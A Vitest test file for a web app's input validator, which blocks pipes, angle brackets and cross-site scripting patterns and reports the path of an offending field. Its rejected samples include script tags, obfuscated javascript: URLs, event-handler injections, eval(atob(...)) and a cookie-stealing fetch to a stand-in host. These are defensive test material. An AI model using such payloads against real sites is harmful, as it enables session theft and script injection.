import { describe, expect, it } from 'vitest';
import { findForbiddenInInput, hasForbiddenCharacters } from '../../../../src/shared/domain/forbidden-characters';

describe('hasForbiddenCharacters', () => {
  it.each([
    ['pipe', 'a | b'],
    ['less-than', '2 < 3'],
    ['greater-than', '3 > 2'],
    ['a script tag', '<script>alert(1)</script>'],
    ['a script tag in capitals', '<SCRIPT src=x>'],
    ['a javascript: URL', 'clique em javascript:alert(1)'],
    ['JavaScript: in mixed case', 'JaVaScRiPt:void(0)'],
    ['javascript: split by a tab', 'java\tscript:alert(1)'],
    ['javascript: split by a line break', 'java\nscript:alert(1)'],
    ['javascript with a space before the colon', 'javascript :alert(1)'],
    ['full-width javascript:', 'ｊａｖａｓｃｒｉｐｔ：alert(1)'],
    ['full-width less-than', '＜img src=x＞'],
    ['vbscript:', 'vbscript:msgbox(1)'],
    ['a data: HTML URL', 'data:text/html;base64,PHNjcmlwdD4='],
    ['onerror=', 'img src=x onerror=alert(1)'],
    ['onload = with spaces', 'body onload = "go()"'],
    ['onmouseover=', 'a onmouseover=steal()'],
    ['ONCLICK= in capitals', 'div ONCLICK=x()'],
    ['a handler assigned in code', 'window.onerror=function(){}'],
    ['eval(', 'eval(atob("..."))'],
    ['eval ( with a space', 'eval (x)'],
    ['document.cookie', 'fetch("//x?c="+document.cookie)'],
    ['Document.Cookie in mixed case', 'Document.Cookie'],
    ['document.write', 'document.write("x")'],
    ['String.fromCharCode', 'String.fromCharCode(60)'],
    ['a CSS expression', 'width: expression(alert(1))'],
    ['srcdoc=', 'iframe srcdoc=x'],
  ])('refuses %s', (_label, text) => {
    expect(hasForbiddenCharacters(text)).toBe(true);
  });

  it.each([
    ['plain Portuguese', 'Olá, tudo bem? Seu pedido chegou às 14h.'],
    ['onde =', 'onde = aqui'],
    ['words starting with on', 'Onda, ontem e onça: on-line'],
    ['button=', 'button=1'],
    ['e-mail and URL', 'maria@example.com https://loja.com.br/p?id=1&x=2'],
    ['evaluation', 'A evaluation é amanhã; avaliação (nota 10)'],
    ['medieval (text)', 'medieval (séc. XII)'],
    ['the word document', 'Envie o document.pdf, por favor'],
    ['javascript without a colon', 'Curso de JavaScript básico'],
    ['math without comparison signs', '2 + 2 = 4; 10% de desconto'],
    ['emoji', '👍🏽 ✅'],
    ['empty', ''],
  ])('accepts %s', (_label, text) => {
    expect(hasForbiddenCharacters(text)).toBe(false);
  });

  it('accepts null and undefined', () => {
    expect(hasForbiddenCharacters(null)).toBe(false);
    expect(hasForbiddenCharacters(undefined)).toBe(false);
  });
});

describe('findForbiddenInInput', () => {
  it('returns null for clean input', () => {
    expect(findForbiddenInInput({ name: 'Maria', tags: ['vip', 'sp'], nested: { note: 'ok', n: 3, b: true } })).toBeNull();
  });

  it.each([
    ['a top-level string', 'a<b', ''],
    ['an object field', { name: 'x', note: 'a|b' }, 'note'],
    ['a nested field', { customer: { address: { street: '<b>' } } }, 'customer.address.street'],
    ['an array item', { tags: ['ok', 'eval(1)'] }, 'tags[1]'],
    ['an object inside an array', { items: [{ text: 'ok' }, { text: 'ok' }, { text: 'onerror=x' }] }, 'items[2].text'],
    ['a root array', ['ok', ['<']], '[1][0]'],
    ['a key that is not an identifier', { 'display-name': '>' }, '["display-name"]'],
    ['an offending key', { '<img>': 'ok' }, '["<img>"]'],
  ])('finds %s', (_label, input, path) => {
    expect(findForbiddenInInput(input)).toBe(path);
  });

  it('reports the first offending value in input order', () => {
    expect(findForbiddenInInput({ a: 'ok', b: 'x|y', c: '<' })).toBe('b');
  });

  it('skips ignored keys at any depth', () => {
    const input = { email: 'a@b.c', password: 'Kq<|>W@z7', nested: { password: '<<' }, note: 'ok' };
    expect(findForbiddenInInput(input, { ignoreKeys: ['password'] })).toBeNull();
    expect(findForbiddenInInput(input)).toBe('password');
  });

  it('ignores non-string values and non-plain objects', () => {
    class Box {
      text = '<script>';
    }
    expect(findForbiddenInInput({ n: 1, b: false, z: null, u: undefined, d: new Date(), box: new Box() })).toBeNull();
    expect(findForbiddenInInput(42)).toBeNull();
    expect(findForbiddenInInput(null)).toBeNull();
  });

  it('walks objects without a prototype', () => {
    const input = Object.assign(Object.create(null) as Record<string, unknown>, { text: '|' });
    expect(findForbiddenInInput(input)).toBe('text');
  });

  it('survives cycles', () => {
    const input: Record<string, unknown> = { a: 'ok' };
    input.self = input;
    expect(findForbiddenInInput(input)).toBeNull();
    input.b = '>';
    expect(findForbiddenInInput(input)).toBe('b');
  });
});
